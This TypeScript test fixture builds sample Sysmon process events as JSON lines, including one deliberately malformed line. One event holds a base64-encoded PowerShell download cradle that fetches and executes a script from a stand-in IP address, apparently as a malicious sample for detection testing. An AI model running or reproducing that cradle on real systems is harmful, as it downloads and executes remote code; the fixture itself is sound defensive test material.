const ENCODED = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
  'utf16le',
).toString('base64');

/** A few Sysmon process events of 2026-03-04, as collectors export them, with one line that is no JSON. */
export function processEvents(): string {
  const event = (index: number, image: string, commandLine: string) =>
    JSON.stringify({
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      SourceName: 'Microsoft-Windows-Sysmon',
      Hostname: 'ws-17.contoso.example',
      '@timestamp': `2026-03-04T05:06:${String(10 + index).padStart(2, '0')}.000Z`,
      UtcTime: `2026-03-04 05:06:${String(10 + index).padStart(2, '0')}.123`,
      ProcessGuid: `{00000000-0000-0000-0000-0000000000${10 + index}}`,
      ParentProcessGuid: '{00000000-0000-0000-0000-000000000001}',
      ProcessId: String(100 + index),
      ParentProcessId: '4',
      Image: image,
      ParentImage: 'C:\\Windows\\explorer.exe',
      CommandLine: commandLine,
      ParentCommandLine: 'explorer.exe',
      User: 'CONTOSO\\alex',
    });
  return [
    event(0, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir'),
    event(1, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell.exe -enc ${ENCODED}`),
    'this is no JSON',
    event(2, 'C:\\Windows\\System32\\notepad.exe', 'notepad.exe'),
  ].join('\n');
}
